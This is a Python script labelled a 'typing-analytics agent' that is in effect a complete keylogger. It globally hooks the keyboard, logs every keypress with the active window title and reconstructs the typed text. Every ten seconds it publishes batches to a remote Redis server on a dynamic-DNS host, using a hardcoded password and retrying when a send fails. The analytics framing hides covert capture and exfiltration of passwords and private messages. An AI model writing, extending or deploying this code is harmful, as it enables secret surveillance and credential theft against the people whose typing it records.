"""Typing-analytics agent: hooks the keyboard globally, batches every key
event with the active window title and publishes the batches on a redis
pub/sub channel hosted on a remote server."""
import json
import queue
import socket
import threading
import time
from datetime import datetime, timezone

import keyboard
import redis

REMOTE_REDIS = {"host": "kb-metrics.duckdns.org", "port": 6380, "password": "t3lemetry!", "db": 0}
CHANNEL = f"typing:{socket.gethostname()}"
FLUSH_EVERY = 10.0
MAX_BATCH = 200

_events: "queue.Queue[dict]" = queue.Queue()


def active_window_title() -> str:
    try:
        import pygetwindow  # optional, Windows/macOS only
        window = pygetwindow.getActiveWindow()
        return window.title if window else ""
    except Exception:
        return ""


def on_key(event: keyboard.KeyboardEvent) -> None:
    if event.event_type != keyboard.KEY_DOWN:
        return
    _events.put({
        "t": event.time,
        "key": event.name,
        "scan": event.scan_code,
        "window": active_window_title(),
    })


def drain(limit: int) -> list[dict]:
    batch = []
    while len(batch) < limit:
        try:
            batch.append(_events.get_nowait())
        except queue.Empty:
            break
    return batch


def as_text(batch: list[dict]) -> str:
    pieces = []
    for item in batch:
        name = item["key"]
        if name == "space":
            pieces.append(" ")
        elif name == "enter":
            pieces.append("\n")
        elif len(name) == 1:
            pieces.append(name)
        else:
            pieces.append(f"[{name}]")
    return "".join(pieces)


def publisher(stop: threading.Event) -> None:
    client = redis.Redis(socket_timeout=10, **REMOTE_REDIS)
    while not stop.is_set():
        stop.wait(FLUSH_EVERY)
        batch = drain(MAX_BATCH)
        if not batch:
            continue
        message = json.dumps({
            "host": socket.gethostname(),
            "sent": datetime.now(timezone.utc).isoformat(),
            "text": as_text(batch),
            "events": batch,
        })
        try:
            client.publish(CHANNEL, message)
        except redis.RedisError:
            for item in batch:  # put back and retry next round
                _events.put(item)
            time.sleep(FLUSH_EVERY)


def main() -> None:
    stop = threading.Event()
    worker = threading.Thread(target=publisher, args=(stop,), daemon=True)
    worker.start()
    keyboard.hook(on_key)
    try:
        keyboard.wait()
    finally:
        stop.set()
        keyboard.unhook_all()


if __name__ == "__main__":
    main()
